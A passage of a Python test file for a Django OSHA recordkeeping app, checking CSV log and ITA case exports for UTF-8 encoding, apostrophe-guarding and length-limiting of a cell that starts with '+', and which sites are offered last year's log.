    log = client.get(reverse("osha:log-csv", args=[site.pk, 2025])).content
    cases = client.get(reverse("osha:ita-cases-csv", args=[site.pk, 2025])).content

    assert log.startswith(codecs.BOM_UTF8)
    assert _csv_rows_of(log)[0]["employee_name"] == "José Peña Ñúñez"
    assert cases.startswith(b"establishment_name,")


@pytest.mark.django_db
def test_a_guarded_cell_of_the_ita_file_stays_within_its_limit(client):
    # The location may have 255 characters; the apostrophe before "+" counts among them.
    site = EstablishmentFactory()
    logged_case(site, location_text="+" + "x" * 279)  # the field holds 300
    client.force_login(user_with_role(Role.RISK_MANAGER))

    case = _csv_rows(client.get(reverse("osha:ita-cases-csv", args=[site.pk, 2025])))[0]

    assert len(case["incident_location"]) == 255
    assert case["incident_location"].startswith("'+x")


def _csv_rows_of(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.django_db
def test_the_index_offers_last_years_log_only_for_sites_open_that_year(client):
    department = DepartmentFactory()
    last_year = timezone.localdate().year - 1
    open_site = EstablishmentFactory(department=department, name="North Yard")
    EstablishmentFactory(
        department=department, name="Old Yard", closed_on=date(last_year - 2, 6, 30)
    )
    client.force_login(user_with_role(Role.SAFETY_OFFICER, covers=(department,)))

    rows = client.get(reverse("osha:index")).context["rows"]

    # A site closed two years before owes no 300A for last year, and has nothing logged.
    assert [(row["establishment"], row["years"]) for row in rows] == [(open_site, [last_year])]
